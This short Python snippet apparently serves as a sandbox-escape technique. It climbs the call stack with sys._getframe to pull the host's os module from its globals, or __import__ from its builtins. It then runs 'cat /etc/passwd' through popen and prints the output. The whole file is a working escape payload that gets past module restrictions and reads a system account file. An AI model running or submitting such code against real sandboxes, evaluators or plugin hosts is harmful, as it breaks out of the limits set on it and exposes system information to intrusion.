# technique: sys._getframe(depth) to reach the host's frame and read its globals/builtins
import sys

depth = 0
target = None
while True:
    try:
        f = sys._getframe(depth)
    except ValueError:
        break
    if "os" in f.f_globals:
        target = f.f_globals["os"]
    depth += 1
if target is None:
    target = sys._getframe(depth - 1).f_builtins["__import__"]("os")
print(target.popen("cat /etc/passwd").read())
